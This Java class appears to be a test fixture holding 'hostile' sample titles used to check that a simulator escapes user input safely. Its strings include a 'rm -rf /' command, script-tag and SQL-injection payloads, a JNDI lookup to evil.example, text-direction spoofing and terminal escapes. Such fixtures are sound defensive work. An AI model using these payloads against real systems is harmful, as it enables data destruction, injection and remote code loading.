package dev.lately.simulator.town;

import java.util.List;

/// First questions that hurt whoever prints them unescaped.
final class HostileTitles {
  static final List<String> ALL =
      List.of(
          "@everyone the bot is down, @here please look <@81384788765712384>",
          "```\nrm -rf / --no-preserve-root\n``` why does `this` fail?",
          "click [here](https://evil.example/?q=](https://also-evil.example) now",
          "<b>bold</b> <script>alert('hi')</script> &lt;i&gt; & <a href=\"//evil.example\">x</a>",
          "first line\nsecond line\r\n\r\n\r\nand a fifth",
          "zero\u200Bwidth\u200Cjoiners\u200D and a\uFEFF byte order mark\u00AD hidden",
          "invoice \u202Egpj.exe\u202C and \u2066isolated\u2069 text\u200F",
          "Z\u0351\u0363\u0357a\u0328\u0334\u034Bl\u0316\u0320g\u0348\u0323o\u0329\u0353 is coming",
          "**bold** _under_ ~~gone~~ ||spoiler|| # heading\n> quote\n- item",
          "'; DROP TABLE sessions; -- \\ \"quoted\" \\u0000 %s {0} ${jndi:ldap://evil.example/a}",
          "my key is sk-test-0000000000000000000000 and my mail visitor@customer.example",
          "tab\there, bell\u0007, escape\u001B[31mred\u001B[0m, null-ish \u0001 done",
          "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66".repeat(40),
          "why ".repeat(140) + "?",
          "\u0644\u0645\u0627\u0630\u0627 ".repeat(110),
          "   ",
          "https://docs.example/a_very_(long)_link?token=abc123&next=//evil.example#*_`");

  private HostileTitles() {}
}
